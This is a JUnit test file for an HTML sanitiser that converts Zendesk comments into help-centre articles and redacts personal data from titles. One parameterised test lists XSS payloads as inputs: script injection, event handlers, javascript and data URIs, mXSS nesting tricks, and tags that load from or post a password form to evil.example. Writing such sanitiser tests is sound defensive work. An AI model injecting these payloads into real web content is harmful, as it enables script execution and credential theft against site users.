package dev.responders.zendesk;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Comment HTML in, article HTML out: what an answer may keep and what no answer may smuggle in. */
class HtmlCleanerTest {

  private static final PersonalDataRedactor NOBODY = PersonalDataRedactor.forRequester(null);

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "<img src=x onerror=alert(1)>",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
      "<a href=\"&#106;avascript:alert(1)\">x</a>",
      "<a href=\"vbscript:msgbox(1)\">x</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
      "<iframe src=\"https://evil.example\"></iframe>",
      "<svg/onload=alert(1)>",
      "<body onload=alert(1)>",
      "<div style=\"background:url(javascript:alert(1))\">x</div>",
      "<style>@import 'https://evil.example/x.css';</style>",
      "<object data=\"https://evil.example/x.swf\"></object>",
      "<embed src=\"https://evil.example/x.swf\">",
      "<form action=\"https://evil.example\"><input type=password></form>",
      "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
      "<base href=\"https://evil.example/\">",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<a href=\"https://ok.example\" onclick=\"alert(1)\" target=\"_top\">x</a>"})
  void dangerousMarkupDoesNotSurvive(String html) {
    String clean = HtmlCleaner.clean(html, NOBODY).toLowerCase();

    assertThat(clean).doesNotContain("<script", "onerror", "onload", "onclick", "javascript", "vbscript", "data:",
        "<iframe", "<svg", "<style", "style=", "<object", "<embed", "<form", "<input", "<meta", "<base", "<img",
        "evil.example", "target=");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', value = {
      "<p>Go to <strong>Settings</strong> &gt; <em>Security</em></p>|<p>Go to <strong>Settings</strong> &gt; <em>Security</em></p>",
      "<ul><li>one</li><li>two</li></ul>|<ul><li>one</li><li>two</li></ul>",
      "<pre><code>aws s3 ls</code></pre>|<pre><code>aws s3 ls</code></pre>",
      "<a href=\"https://help.acme.example/x\">guide</a>|<a href=\"https://help.acme.example/x\" rel=\"nofollow\">guide</a>",
      "<p>1 &lt; 2 &amp; 3</p>|<p>1 &lt; 2 &amp; 3</p>"})
  void formattingListsCodeAndHttpsLinksStay(String html, String expected) {
    assertThat(HtmlCleaner.clean(html, NOBODY)).isEqualTo(expected);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"Jane Doe <jane@example.com>", "Call +1 415 555 0134", "Jane's ticket\u0007"})
  void titlesArePlainTextWithoutPersonalData(String subject) {
    String title = HtmlCleaner.plainText(subject, PersonalDataRedactor.forRequester("Jane Doe"));

    assertThat(title).doesNotContain("Jane", "jane@", "415", "\u0007");
  }
}
